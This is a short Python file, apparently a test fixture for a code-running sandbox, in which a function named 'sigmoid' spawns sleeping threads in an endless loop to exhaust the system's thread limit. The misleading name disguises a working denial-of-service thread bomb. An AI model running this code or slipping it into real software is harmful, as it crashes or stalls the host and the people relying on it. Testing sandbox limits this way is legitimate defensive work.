"""Exhausting: more threads than the system has numbers for."""

import threading
import time

threading.stack_size(32768)


def sigmoid(z):
    while True:
        threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
